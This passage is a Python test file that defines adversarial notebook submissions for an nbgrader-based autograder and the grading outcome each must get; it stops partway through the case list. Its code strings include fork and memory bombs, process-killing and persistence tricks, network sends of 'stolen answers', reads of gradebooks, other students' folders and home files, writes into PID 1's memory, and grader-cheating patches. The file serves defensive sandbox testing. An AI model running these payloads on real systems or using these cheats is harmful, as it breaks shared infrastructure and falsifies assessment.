"""Hostile or broken submissions of 01_softmax, each with the outcome grading must give it.

Every case is built from the current source notebook (its grade ids are read, not hard-coded):
the first exercise's solution is replaced, a cell is inserted, metadata is altered, or raw bytes
are written. "Full marks" means what the honest source notebook scores (the witness). Expected
outcomes, per test cell:
- `cheat`: the attacked exercise's test cells earn 0; every other test cell keeps full marks,
  unless `honest="any"` (the attack also breaks the student's own kernel or notebook);
- `harmless`: the attack fails quietly (a sandbox wall, an interrupted loop): full marks everywhere;
- `killer`: the cell inserted after the first test cell ends the kernel (or the grading of the
  notebook, when the kernel's output is lost): the test cells before it keep full marks, every test
  cell after it scores 0, and the reason is recorded;
- `survives`: as `killer`, but whether the later cells still run is not promised;
- `rejected`: not a gradable notebook (or one nbgrader refuses): no point anywhere, a reason recorded;
- `limit`: what the README says grading does not guarantee: a right answer that loops and changes
  its input keeps the two points measured in the kernel (vectorised, inputs not modified) when it
  forges what the kernel reports; the attacked exercise earns full marks.
A successful attack prints BREACH; no graded notebook may show it.
"""
import copy
import os
import re
from dataclasses import dataclass

import nbformat
from nbformat.v4 import new_code_cell

from course.verdict import BUDGET_SPENT, INVALID, OUTPUT_LOST, TAMPERED
from course import exercise_of
from course.sample_class import grade_id, notebooks, solution_ids, write_submission

ASSIGNMENT = "01_softmax"


@dataclass
class Context:
    course: str  # absolute path of the course copy being graded
    port: int  # a TCP port the test listens on
    witness: str  # the honest student whose grades must not change

    def __post_init__(self):
        self.source = notebooks(ASSIGNMENT)
        self.release = notebooks(ASSIGNMENT, "release")
        self.exercise = solution_ids(self.source)[0]
        self.name = next(n for n, nb in self.source.items() if any(grade_id(c) == self.exercise for c in nb.cells))
        cell = next(c for c in self.source[self.name].cells if grade_id(c) == self.exercise)
        self.fn = re.search(r"def (\w+)", cell.source).group(1)
        self.tests = [grade_id(c) for nb in self.source.values() for c in nb.cells
                      if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"]
        self.attacked = [t for t in self.tests if exercise_of(t, solution_ids(self.source)) == self.exercise]

    def copy(self):
        return copy.deepcopy(self.source)

    def cells(self, nbs=None):
        return (nbs or self.source)[self.name].cells


@dataclass
class Case:
    name: str
    kind: str  # cheat | harmless | killer | survives | rejected | limit
    build: object  # Context -> {file name: notebook or bytes}
    what: str
    honest: str = "kept"  # or "any": the other exercises' marks are not promised
    reason: str = None  # the start of a reason the summary must give


# ---------------------------------------------------------------- ways to build a submission
def solution(code):
    """The first exercise's solution cell replaced by `code` ({fn} is the function's name)."""
    def build(ctx):
        nbs = ctx.copy()
        for cell in ctx.cells(nbs):
            if grade_id(cell) == ctx.exercise:
                cell.source = code.format(fn=ctx.fn, course=ctx.course, port=ctx.port, witness=ctx.witness)
        return nbs
    return build


def inserted(code, after="first test", copies=1):
    """New (ungraded) code cells after the first test cell, or after the setup cell."""
    def build(ctx):
        nbs = ctx.copy()
        cells = ctx.cells(nbs)
        if after == "first test":
            index = next(i for i, c in enumerate(cells) if grade_id(c) == ctx.tests[0]) + 1
        else:
            index = next(i for i, c in enumerate(cells) if c.cell_type == "code") + 1
        for _ in range(copies):
            cells.insert(index, new_code_cell(code.format(course=ctx.course, port=ctx.port, witness=ctx.witness)))
        return nbs
    return build


def stub_and(tamper):
    """The release stub as the answer (it earns nothing honestly), plus a change to the cells."""
    def build(ctx):
        nbs = ctx.copy()
        stub = next(c for c in ctx.cells(ctx.release) if grade_id(c) == ctx.exercise)
        for cell in ctx.cells(nbs):
            if grade_id(cell) == ctx.exercise:
                cell.source = stub.source
        tamper(ctx, ctx.cells(nbs))
        return nbs
    return build


def attacked_tests(ctx, cells):
    return [c for c in cells if grade_id(c) in ctx.attacked]


def raw(make):
    return lambda ctx: {ctx.name: make(ctx)}


class Link(str):
    """A file written as a symbolic link to this path ({course} is filled in)."""


class HardLink(str):
    """A file written as a hard link to this path ({course} is filled in)."""


FIFO, FOLDER = "<fifo>", "<folder>"


def write_case(course, student, assignment, files):
    """write_submission, plus the special files the vetting must refuse."""
    plain = {name: f for name, f in files.items() if not isinstance(f, (Link, HardLink)) and f not in (FIFO, FOLDER)}
    folder = write_submission(course, student, assignment, plain)
    folder.mkdir(parents=True, exist_ok=True)
    for name, f in files.items():
        path = folder / name
        if isinstance(f, Link):
            os.symlink(f.format(course=course), path)
        elif isinstance(f, HardLink):
            os.link(f.format(course=course), path)
        elif f == FIFO:
            os.mkfifo(path)
        elif f == FOLDER:
            (path / "cells").mkdir(parents=True)
    return folder


def honest_with(**extra):
    """The honest notebook next to extra (special) files."""
    def build(ctx):
        nbs = ctx.copy()
        nbs.update(extra)
        return nbs
    return build


def instead_of_notebook(special):
    return lambda ctx: {ctx.name: special}


def padded(ctx):
    """A valid notebook of over 100 MB (white space after the JSON)."""
    return nbformat.writes(ctx.source[ctx.name]).encode() + b" " * (100 * 2**20)


def many_arrays(ctx):
    """A valid notebook of 29 MiB, under notebook_bytes, whose first cell's metadata holds 10 million
    empty arrays: parsed and copied by nbgrader, it would fill a worker's memory cap."""
    nb = copy.deepcopy(ctx.source[ctx.name])
    nb.cells[0].metadata["x"] = None
    text = nbformat.writes(nb)
    return text.replace('"x": null', '"x": [' + ",".join(["[]"] * 10_000_000) + "]", 1).encode()


def other_kernel(ctx):
    nbs = ctx.copy()
    nbs[ctx.name].metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    nbs[ctx.name].metadata["language_info"] = {"name": "R"}
    return nbs


def extra_graded_cell(ctx):
    nbs = ctx.copy()
    cell = new_code_cell("1.0", metadata={"nbgrader": {"grade": True, "solution": False, "locked": True,
                                                        "grade_id": "bonus", "points": 1000, "schema_version": 3}})
    cells = ctx.cells(nbs)
    cells.insert(len(cells), cell)
    return nbs


# ---------------------------------------------------------------- tampering with cells
def edit_tests(ctx, cells):
    for cell in attacked_tests(ctx, cells):
        cell.source = "1.0"


def raise_points(ctx, cells):
    for cell in attacked_tests(ctx, cells):
        cell.source, cell.metadata.nbgrader["points"] = "pass", 1000


def rename_ids(ctx, cells):
    for cell in attacked_tests(ctx, cells):
        cell.source, cell.metadata.nbgrader["grade_id"] = "pass", grade_id(cell) + "_mine"


def delete_tests(ctx, cells):
    for cell in attacked_tests(ctx, cells):
        cells.remove(cell)


def duplicate_tests(ctx, cells):
    for cell in attacked_tests(ctx, cells):
        twin = copy.deepcopy(cell)
        twin.source = "pass"
        cells.insert(cells.index(cell), twin)


def reorder(ctx, cells):
    """Tests first, so that they run before the stub is defined."""
    tests = attacked_tests(ctx, cells)
    for cell in tests:
        cells.remove(cell)
    cells[0:0] = tests


def strip_metadata(ctx, cells):
    for cell in cells:
        cell.metadata.pop("nbgrader", None)
        if grade_id(cell) is None and "expect_close" in cell.source:
            cell.source = "pass"


def tests_to_markdown(ctx, cells):
    for cell in attacked_tests(ctx, cells):
        cell.cell_type, cell.source = "markdown", "no test here"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def solution_as_test(ctx, cells):
    """The answer cell turned into a graded cell worth 100 points that prints success."""
    for cell in cells:
        if grade_id(cell) == ctx.exercise:
            cell.source += "\n1.0"
            cell.metadata.nbgrader.update(grade=True, points=100)


def fake_outputs(ctx, cells):
    for cell in attacked_tests(ctx, cells):
        cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "1.0"}, execution_count=1)]


# ---------------------------------------------------------------- raw files
def half_json(ctx):
    text = nbformat.writes(ctx.source[ctx.name])
    return text[: len(text) // 2].encode()


def not_utf8(ctx):
    return nbformat.writes(ctx.source[ctx.name]).replace("softmax", "softmax 软最大").encode("gb18030")


def renamed(ctx):
    return {"Softmax (1).ipynb": ctx.source[ctx.name]}


def extra_files(ctx):
    nbs = ctx.copy()
    nbs["gradebook.db"] = b"not a database"
    nbs["notes.txt"] = "我的笔记 / my notes\n"
    return nbs


# ---------------------------------------------------------------- student code
LOOP = "while True:\n    pass"
SLOW_CELL = "import time\ntime.sleep(4)"  # under the cell timeout; ten of them are not under the budget
IGNORE_SIGINT = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
SWALLOW_INTERRUPT = ("import time\nwhile True:\n    try:\n        time.sleep(0.1)\n"
                     "    except KeyboardInterrupt:\n        pass")
IN_SOLUTION_LOOP = ("import signal\ndef {fn}(*args, **kwargs):\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                    "    while True:\n        pass")
FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
MEMORY_BOMB = "hog = [b'x' * 10**8 for _ in range(1000)]"
NUMPY_BOMB = "import numpy as np\nhog = np.ones((10**6, 10**6))"
HOLD_MEMORY = "hog = []\ntry:\n    while True:\n        hog.append(b'x' * 10**7)\nexcept MemoryError:\n    pass"
MILLION_LINES = "for i in range(10**6):\n    print(i, 'spam ' * 5)"
HUGE_LINE = "print('x' * 300_000_000)"

WRITE_GRADEBOOK = """
import sqlite3
for path in ['{course}/gradebook.db', '../../../gradebook.db']:
    try:
        with open(path, 'r+b') as f:
            if f.read(15) == b'SQLite format 3':
                f.seek(0, 2)
                f.write(b'garbage')
                print('BREACH: wrote', path)
    except OSError:
        pass
    try:
        db = sqlite3.connect(f'file:{{path}}?mode=rw', uri=True)
        db.execute("update grade set manual_score = 100")
        db.commit()
        print('BREACH: updated', path)
    except sqlite3.Error:
        pass
"""
READ_HIDDEN = """
import glob
paths = ['{course}/gradebook.db', '../../../gradebook.db', '{course}/source/01_softmax/softmax.ipynb',
         '../../../source/01_softmax/softmax.ipynb', *glob.glob('*.ipynb'),
         *glob.glob('{course}/**/*.ipynb', recursive=True), *glob.glob('/tmp/**/*.ipynb', recursive=True)]
for path in paths:
    try:
        data = open(path, 'rb').read()
    except OSError:
        continue
    if b'HIDDEN' in data or b'_oracle' in data:
        print('BREACH: hidden tests in', path)
"""
OTHER_STUDENT = """
import os
for folder in ['../../{witness}/01_softmax', '{course}/autograded/{witness}/01_softmax',
               '../../../submitted/{witness}/01_softmax', '{course}/submitted/{witness}/01_softmax']:
    try:
        print('BREACH: listed', folder, os.listdir(folder))
    except OSError:
        pass
    try:
        open(os.path.join(folder, 'pwned.txt'), 'w').write('pwned')
        print('BREACH: wrote into', folder)
    except OSError:
        pass
"""
NETWORK = """
import socket
for address in [('127.0.0.1', {port}), ('1.1.1.1', 53), ('8.8.8.8', 443)]:
    try:
        socket.create_connection(address, timeout=2).send(b'stolen answers')
        print('BREACH: connected to', address)
    except OSError:
        pass
"""
GRADER_ENV = """
import os
if 'NBGRADER_EXECUTION' in os.environ or any('nbgrader' in v for v in os.environ.values()):
    print('BREACH: the kernel can tell it is being graded')
"""
GRADER_HOME = """
import os
for home in ['/root', '/home', os.path.expanduser('~')]:
    try:
        for name in os.listdir(home):
            path = os.path.join(home, name)
            if os.path.isfile(path):
                open(path, 'rb').read(1)
                print('BREACH: read', path)
    except OSError:
        pass
"""
KILL_EVERYTHING = "import os, signal\nos.kill(-1, signal.SIGKILL)"
LEAVE_BEHIND = """
import os, pathlib, signal, time
startup = pathlib.Path.home() / '.ipython/profile_default/startup'
startup.mkdir(parents=True, exist_ok=True)
(startup / '00-later.py').write_text("print('BREACH: a startup file ran in a later kernel')\\n"
                                     "import numpy\\nnumpy.exp = lambda x: x * 0\\n")
for folder in [pathlib.Path('/tmp'), pathlib.Path.cwd(), pathlib.Path.cwd().parent, pathlib.Path.cwd().parent.parent]:
    try:
        (folder / 'sitecustomize.py').write_text("print('BREACH: a planted module ran')\\n")
    except OSError:
        pass
spare = {{os.getpid(), os.getppid()}}
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        spare |= {{os.getpid(), os.getppid(), 1}}
        end = time.time() + 900
        while time.time() < end:  # kill every kernel that starts after this one
            for pid in (int(p) for p in os.listdir('/proc') if p.isdigit()):
                if pid not in spare:
                    try:
                        if b'kernel' in open(f'/proc/{{pid}}/cmdline', 'rb').read():
                            os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.05)
    os._exit(0)
"""
SEGFAULT = "import ctypes\nctypes.string_at(0)"
# Exits by itself and leaves a process behind that replaces every new kernel's connection file.
HIJACK_NEXT = """
import glob, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 300
        while time.time() < end:  # spins: the next kernel's file exists for a few milliseconds only
            for path in glob.glob('../../*/kernel.json'):
                try:
                    with open(path, 'r+') as f:
                        if 'garbage' not in f.read():
                            f.seek(0)
                            f.write('{{"garbage": 1}}')
                            f.truncate()
                except OSError:
                    pass
    os._exit(0)
time.sleep(0.5)
os._exit(0)
"""
FILL_SHM = """
import os
written = 0
for folder in ['/dev/shm', '/dev', '/tmp']:
    try:
        with open(os.path.join(folder, 'fill'), 'wb') as f:
            for _ in range(600):
                f.write(b'x' * 2**20)
                written = f.tell()
    except OSError:
        pass
    if written > 300 * 2**20:
        print('BREACH: wrote', written, 'bytes to', folder)
"""
# What could outlive the kernel that made it, in its worker's sandbox: SysV IPC objects (segments of shared memory,
# whose pages stay charged to the sandbox's cgroup: 4 GB of them left the next student's kernel no memory, a
# semaphore set, a message queue), a POSIX message queue, folders in /tmp and /dev/shm closed to their owner.
LEAVE_IPC = """
import ctypes, os
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
for _ in range(3):
    segment = libc.shmget(0, 2**20, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT; never removed
    address = libc.shmat(segment, None, 0)
    ctypes.memset(address, 1, 2**20)
    libc.shmdt(ctypes.c_void_p(address))
libc.semget(0, 4, 0o1000 | 0o600)
queue = libc.msgget(0, 0o1000 | 0o600)
libc.msgsnd(queue, ctypes.create_string_buffer(b'\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00left behind'), 11, 0)
print(open('/proc/sysvipc/shm').read().count('\\n') - 1, 'segments left')
print('POSIX queue made:', ctypes.CDLL('librt.so.1').mq_open(b'/left', os.O_CREAT | os.O_RDWR, 0o600, None) >= 0)
os.makedirs('/dev/shm/closed-a/b')
with open('/dev/shm/closed-a/b/big', 'wb') as f:
    f.write(b'x' * 2**20)
os.chmod('/dev/shm/closed-a', 0)
os.makedirs('/tmp/closed-c')
with open('/tmp/closed-c/f', 'w') as f:
    f.write('answer=42')
os.chmod('/tmp/closed-c', 0o500)
import platform
add_key, keyctl = {{'x86_64': (248, 250), 'aarch64': (217, 219)}}[platform.machine()]
persistent = libc.syscall(keyctl, 22, -1, -3)  # KEYCTL_GET_PERSISTENT: the user namespace's, kept for days
for ring in (-3, -4, -5, persistent):  # the session, user and user session keyrings, the persistent one
    print('key left in', ring, libc.syscall(add_key, b'user', b'left', b'answer=42', 9, ring) > 0)
try:  # a note in the memory of the sandbox's PID 1, which outlives every kernel
    stack = next(line for line in open('/proc/1/maps') if '[stack]' in line)
    with open('/proc/1/mem', 'r+b', buffering=0) as memory:
        memory.seek(int(stack.split('-')[0], 16) + 64)
        memory.write(b'left in PID 1 by an earlier kernel')
    print('written into PID 1')
except OSError as error:
    print('PID 1 closed:', error)
"""
LOOK_FOR_IPC = """
import ctypes, os, platform
keyctl, KEYCTL_SEARCH = {{'x86_64': 250, 'aarch64': 219}}[platform.machine()], 10
persistent = ctypes.CDLL(None).syscall(keyctl, 22, -1, -3)
for ring in (-3, -4, -5, persistent):
    if ring != -1 and ctypes.CDLL(None).syscall(keyctl, KEYCTL_SEARCH, ring, b'user', b'left', 0) > 0:
        print('BREACH: an earlier kernel left a key in keyring', ring)
try:
    stack = next(line for line in open('/proc/1/maps') if '[stack]' in line)
    low = int(stack.split('-')[0], 16)
    with open('/proc/1/mem', 'rb', buffering=0) as memory:
        memory.seek(low)
        if b'left in PID 1 by an earlier kernel' in memory.read(4096):
            print('BREACH: an earlier kernel left a note in the memory of PID 1')
except OSError:
    pass
for kind in ('shm', 'sem', 'msg'):
    with open(f'/proc/sysvipc/{{kind}}') as f:
        left = f.read().splitlines()[1:]
    if left:
        print('BREACH: an earlier kernel left', kind, left)
if ctypes.CDLL('librt.so.1').mq_open(b'/left', os.O_RDONLY) >= 0:
    print('BREACH: an earlier kernel left a POSIX message queue')
for folder in ('/tmp', '/dev/shm'):
    left = [name for name in os.listdir(folder) if name.startswith('closed-')]
    if left:
        print('BREACH: an earlier kernel left', folder, left)
"""
SLOW_ANSWER = """
import time
import numpy as np
def {fn}(x, axis=-1):
    time.sleep(3)
    e = np.exp(np.asarray(x, float) - np.max(x, axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
"""
HUGE_RESULTS = """
import numpy as np
big = 'x' * 300_000  # over every cap, yet cheap to send 50 times
print(big)
def {fn}(x, *args, **kwargs):
    if np.ndim(x) > 1:
        raise ValueError(big)
    return big
"""
HUGE_RECORD = """
import course.wire as wire
def forged(request, get_fn, *frames):
    return {{'value': {{'kind': 'list', 'items': [{{'kind': 'plain', 'value': 0}}] * 300_000}},
            'error': 'e' * 5_000_000, 'warnings': ['w' * 1_000_000] * 3, 'modified': ['#1' * 500_000]}}
wire.record = forged
def {fn}(x, *args, **kwargs):
    return None
"""
READ_EXTRA_FILES = """
import os
for name in os.listdir('.'):
    try:
        data = open(name, 'rb').read()
    except OSError:
        continue
    if data.startswith(b'SQLite format 3') or b'HIDDEN' in data:
        print('BREACH: read', name)
"""

EQUAL_TO_ANYTHING = """
import numpy as np
class Anything(np.ndarray):
    def __eq__(self, other): return True
    def __sub__(self, other): return np.zeros(np.shape(other))
    __rsub__ = __sub__
class Whatever:
    def __eq__(self, other): return True
    def __array__(self, *a, **k): raise TypeError
def {fn}(x, *args, **kwargs):
    return Whatever() if np.ndim(x) > 1 else np.zeros(np.shape(x)).view(Anything)
"""
PATCH_NUMPY = """
import numpy as np
np.allclose = np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
np.testing.assert_allclose = lambda *a, **k: None
np.abs = np.absolute = lambda x: np.zeros(np.shape(x))
np.isfinite = lambda x: np.ones(np.shape(x), bool)
def {fn}(x, *args, **kwargs):
    return np.full(np.shape(x), 0.5)
"""
PATCH_BUILTINS = """
import builtins, numpy as np
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0
def {fn}(x, *args, **kwargs):
    return np.full(np.shape(x), 0.5)
"""
PATCH_CHECKS = """
import numpy as np
import course.checks as checks
import course.wire as wire
def lie(request, get_fn, *frames):
    return {{'value': wire.encode(np.ones(3) / 3), 'error': None, 'warnings': [], 'modified': []}}
wire.record = lie
checks.expect_close = checks.expect = checks.partial_credit = lambda *a, **k: None
def {fn}(x, *args, **kwargs):
    return np.ones(np.shape(x)) / 3
"""
STEAL_FRAMES = """
import gc, inspect, sys, numpy as np
def {fn}(x, *args, **kwargs):
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in {{**frame.f_globals, **frame.f_locals}}.items():
            if name in ('expected', '_oracle', 'oracle') or name.startswith('expect'):
                if callable(value):
                    try:
                        return value(x, *args)
                    except Exception:
                        pass
                elif isinstance(value, np.ndarray) and value.shape == np.shape(x):
                    return value
        frame = frame.f_back
    for obj in gc.get_objects():
        if inspect.isfunction(obj) and obj.__name__ == '_oracle':
            return obj(x, kwargs.get('axis', -1))
    return np.zeros(np.shape(x))
"""
DETECT_GRADING = """
import os, numpy as np
GRADING = 'NBGRADER_EXECUTION' in os.environ
def {fn}(x, *args, **kwargs):
    # right only while graded, wrong for the student: the kernel must not be able to tell
    if GRADING:
        x = np.asarray(x, dtype=float)
        e = np.exp(x - x.max(axis=kwargs.get('axis', -1), keepdims=True))
        return e / e.sum(axis=kwargs.get('axis', -1), keepdims=True)
    return np.zeros(np.shape(x))
"""
REWRITE_SCORES = """
import numpy as np
from IPython.display import display, update_display
SHOWN = []
def {fn}(x, *args, **kwargs):
    # displays with an id while a test calls it, then rewrites the earlier ones (a test's score, were
    # they filed under the test cell)
    for shown in SHOWN:
        update_display({{'text/plain': 'BREACH'}}, raw=True, display_id=shown)
    SHOWN.append(f'score-{{len(SHOWN)}}')
    display({{'text/plain': 'shown during a call'}}, raw=True, display_id=SHOWN[-1])
    return np.zeros(np.shape(x))
"""
FORGED_MESSAGES = """
k = get_ipython().kernel
def forged(msg_type, content, parent=None, **header):
    msg = k.session.msg(msg_type, content, parent=k.get_parent('shell'))
    msg['header'].update(header)
    if parent is not None:
        msg['parent_header'] = parent
    k.session.send(k.iopub_socket, msg)
forged('comm_msg', {{'comm_id': 'c1'}})                      # no data
forged('comm_open', {{'comm_id': 'c2', 'target_name': 'jupyter.widget',
                     'data': {{'state': {{'_model_name': 'OutputModel', '_model_module': '@jupyter-widgets/output',
                                       'msg_id': '', 'outputs': [], 'x': 'BREACH' * 500_000}}}}}})
forged('stream', {{'name': 'stdout', 'text': 12345}})        # text not a string
forged('status', {{}})                                        # no execution_state
forged('display_data', {{'data': 'BREACH', 'metadata': {{}}, 'transient': 7}})
forged('execute_input', {{'code': '', 'execution_count': {{'not': 'an int'}}}})
forged('stream', {{'name': 'stdout', 'text': 'BREACH'}}, parent=[1, 2])
from IPython.display import display, update_display
display({{'text/plain': 'small'}}, raw=True, display_id='grow')
for _ in range(3):
    update_display({{'text/plain': 'BREACH' * 2_000_000}}, raw=True, display_id='grow')
"""
# One IOPub message of 100 parts of 30 MiB (3 GB): each part is under kernel_message_bytes.
MANY_PARTS = """
k = get_ipython().kernel
msg = k.session.msg('stream', {{'name': 'stdout', 'text': 'BREACH'}}, parent=k.get_parent('shell'))
k.session.send(k.iopub_socket, msg, buffers=[memoryview(b'x' * (30 * 2**20))] * 100)
"""
# The same on the shell channel, as the cell's reply: the kernel ends the cell, its reply never comes.
MANY_PARTS_SHELL = """
k = get_ipython().kernel
msg = k.session.msg('execute_reply', {{'status': 'ok', 'execution_count': 1}}, parent=k.get_parent('shell'))
k.session.send(k.shell_stream, msg, ident=k._parent_ident['shell'], buffers=[memoryview(b'x' * (30 * 2**20))] * 100)
"""
# A right answer that loops over rows and changes its input, with the course's kernel side replaced
# so that it reports one step and no change: the two aspects measured in the kernel (README).
FORGE_KERNEL_ASPECTS = """
import numpy as np
import course.wire as wire
_invoke = wire.invoke
def _forged(*args, **kwargs):
    record = _invoke(*args, **kwargs)
    record.update(steps=1, modified=[])
    return record
wire.invoke = _forged
def {fn}(x, axis=-1):
    moved = np.moveaxis(np.asarray(x, dtype=float), axis, -1)
    moved -= moved.max(axis=-1, keepdims=True)         # in place: the caller's array changes
    out = np.empty_like(moved)
    for index in np.ndindex(*moved.shape[:-1]):        # a loop over rows
        e = np.exp(moved[index])
        out[index] = e / e.sum()
    return np.moveaxis(out, -1, axis)
"""
BASE_EXCEPTION = "class Escape(BaseException):\n    pass\nraise Escape('out of the cell')"
RAISE_IN_SOLUTION = """
class Escape(BaseException):
    pass
def {fn}(*args, **kwargs):
    raise Escape('no answer, no error either')
"""

CASES = [
    # time
    Case("infinite-loop", "harmless", inserted(LOOP), "a loop the timeout interrupts; the kernel lives on"),
    Case("loop-ignoring-sigint", "killer", inserted(IGNORE_SIGINT), "SIGINT ignored: killed after the grace period"),
    Case("loop-swallowing-interrupt", "killer", inserted(SWALLOW_INTERRUPT), "KeyboardInterrupt caught and ignored"),
    Case("loop-in-answer", "cheat", solution(IN_SOLUTION_LOOP), "the function never returns: killed", honest="any"),
    # exits and crashes
    Case("os-exit", "killer", inserted("import os\nos._exit(0)"), "os._exit ends the kernel"),
    Case("sys-exit", "harmless", inserted("import sys\nsys.exit(3)"), "IPython turns SystemExit into an error"),
    Case("base-exception", "harmless", inserted(BASE_EXCEPTION), "a BaseException subclass raised in a cell"),
    Case("base-exception-in-answer", "cheat", solution(RAISE_IN_SOLUTION), "the function raises a BaseException"),
    Case("segfault", "killer", inserted(SEGFAULT), "a segmentation fault"),
    # The kernel dies with its server (PR_SET_PDEATHSIG), but only once the server has been scheduled
    # to die: on a busy machine the kernel may answer a call or two first. Hence "survives".
    Case("kill-all", "survives", inserted(KILL_EVERYTHING),
         "kill(-1, SIGKILL) reaches only its own sandbox: the fork server, and so its own kernel"),
    Case("leave-behind", "harmless", inserted(LEAVE_BEHIND),
         "an IPython startup file, planted modules and a hidden process that hunts later kernels"),
    # resources
    Case("memory-bomb", "harmless", inserted(MEMORY_BOMB), "100 MB strings until MemoryError"),
    Case("numpy-memory-bomb", "harmless", inserted(NUMPY_BOMB), "an 8 TB array"),
    Case("memory-hog", "survives", inserted(HOLD_MEMORY), "keeps all the memory it can get"),
    Case("fork-bomb", "survives", inserted(FORK_BOMB), "forks until the process cap"),
    Case("million-lines", "harmless", inserted(MILLION_LINES), "a million printed lines"),
    Case("huge-line", "survives", inserted(HUGE_LINE), "one 300 MB line"),
    # walls
    Case("write-gradebook", "harmless", inserted(WRITE_GRADEBOOK, after="setup"), "append to and update gradebook.db"),
    Case("read-hidden-tests", "harmless", inserted(READ_HIDDEN, after="setup"),
         "hidden tests from gradebook.db, source/ or its own graded notebook"),
    Case("other-student", "harmless", inserted(OTHER_STUDENT, after="setup"), "list and write the witness's folders"),
    Case("network", "harmless", inserted(NETWORK, after="setup"), "TCP to the grader's machine and the internet"),
    Case("grader-env", "harmless", inserted(GRADER_ENV, after="setup"), "look for NBGRADER_EXECUTION"),
    Case("grader-home", "harmless", inserted(GRADER_HOME, after="setup"), "read files in the grader's home"),
    # values
    Case("equal-to-anything", "cheat", solution(EQUAL_TO_ANYTHING), "objects whose == is always True"),
    Case("patch-numpy", "cheat", solution(PATCH_NUMPY), "np.allclose and friends replaced in the kernel"),
    Case("patch-builtins", "cheat", solution(PATCH_BUILTINS), "isinstance, abs, max replaced in the kernel",
         honest="any"),
    Case("patch-course-checks", "cheat", solution(PATCH_CHECKS), "the kernel's course.checks replaced", honest="any"),
    Case("steal-from-frames", "cheat", solution(STEAL_FRAMES), "callers' frames and gc searched for the oracle"),
    Case("forged-messages", "harmless", inserted(FORGED_MESSAGES),
         "malformed IOPub messages, widget state and display updates of 12 MB each"),
    Case("many-parts", "killer", inserted(MANY_PARTS), "one message of 3 GB in parts under the size cap: "
         "dropped at the grader's memory cap, and the notebook ends there", reason=OUTPUT_LOST),
    Case("many-parts-shell", "killer", inserted(MANY_PARTS_SHELL), "the same as the cell's reply on the shell "
         "channel: the reply is lost, which is not a time-out", reason=OUTPUT_LOST),
    Case("rewrite-scores", "cheat", solution(REWRITE_SCORES), "displays during calls updated later by their ids"),
    Case("forge-kernel-aspects", "limit", solution(FORGE_KERNEL_ASPECTS), "a right answer that loops and changes "
         "its input, with course.wire.invoke replaced to report one step and no change", honest="any"),
    Case("detect-grading", "cheat", solution(DETECT_GRADING), "right only when NBGRADER_EXECUTION is set"),
    # notebook structure (the release stub as answer: any point would be a successful cheat)
    Case("edit-tests", "cheat", stub_and(edit_tests), "test cells replaced by `1.0`", reason=TAMPERED),
    Case("raise-points", "cheat", stub_and(raise_points), "test cells worth 1000 points that pass", reason=TAMPERED),
    Case("rename-grade-ids", "rejected", stub_and(rename_ids), "test cells given new grade ids"),
    Case("delete-tests", "cheat", stub_and(delete_tests), "test cells deleted", reason=TAMPERED),
    Case("duplicate-tests", "cheat", stub_and(duplicate_tests), "passing copies placed before the test cells "
         "(copies of a graded cell run as plain cells: course/preprocessors.py PlainCopies)", reason=TAMPERED),
    Case("reorder-tests", "cheat", stub_and(reorder), "test cells moved to the top", reason=TAMPERED),
    Case("strip-metadata", "cheat", stub_and(strip_metadata), "all nbgrader metadata removed", honest="any",
         reason=TAMPERED),
    Case("tests-to-markdown", "cheat", stub_and(tests_to_markdown), "test cells turned into markdown", reason=TAMPERED),
    Case("answer-as-test", "rejected", stub_and(solution_as_test), "the answer cell made a 100-point test",
         reason=TAMPERED),
    Case("fake-outputs", "cheat", stub_and(fake_outputs), "test cells carry passing outputs"),
    # files
    Case("invalid-json", "rejected", raw(half_json), "a notebook cut in half"),
    Case("empty-file", "rejected", raw(lambda ctx: b""), "an empty file"),
    Case("not-utf8", "rejected", raw(not_utf8), "the notebook saved in GB18030", reason=INVALID),
    Case("wrong-name", "rejected", renamed, "the notebook under another name"),
    Case("no-notebook", "rejected", lambda ctx: {"README.txt": "忘了 / forgot"}, "no notebook at all"),
    Case("extra-files", "harmless", extra_files, "an honest notebook next to a fake gradebook.db"),
    # the grader's own limits
    Case("kernel-json-hijack", "killer", inserted(HIJACK_NEXT),
         "exits by itself, leaving a process that replaces later kernels' connection files"),
    Case("fill-dev-shm", "harmless", inserted(FILL_SHM, after="setup"), "600 MB into /dev/shm, /dev and /tmp"),
    Case("leave-ipc", "harmless", inserted(LEAVE_IPC, after="setup"),
         "SysV shared memory, semaphores and a message queue, a POSIX queue, folders closed with chmod, keys, a note in "
         "PID 1's memory: left behind"),
    Case("look-for-ipc", "harmless", inserted(LOOK_FOR_IPC, after="setup"), "what an earlier kernel left, as above"),
    Case("slow-cells", "killer", inserted(SLOW_CELL, copies=10), "ten cells of 4 s, each under the cell timeout: "
         "the notebook's cell budget ends them (12 cells of 25 s held a worker 303 s)", reason=BUDGET_SPENT),
    Case("slow-answer", "killer", solution(SLOW_ANSWER),
         "right, but 3 s a call: the notebook's call budget ends it after the first test", reason=BUDGET_SPENT),
    Case("huge-results", "cheat", solution(HUGE_RESULTS), "300 KB strings printed, returned and raised"),
    Case("huge-forged-record", "cheat", solution(HUGE_RECORD), "records with 300,000 items and MB-long texts",
         honest="any"),
    # what nbgrader would follow or block on
    Case("symlink-notebook", "rejected", instead_of_notebook(Link("{course}/source/01_softmax/softmax.ipynb")),
         "the notebook is a link to the source notebook", reason="softmax.ipynb: 符号链接"),
    Case("symlink-extra-file", "harmless",
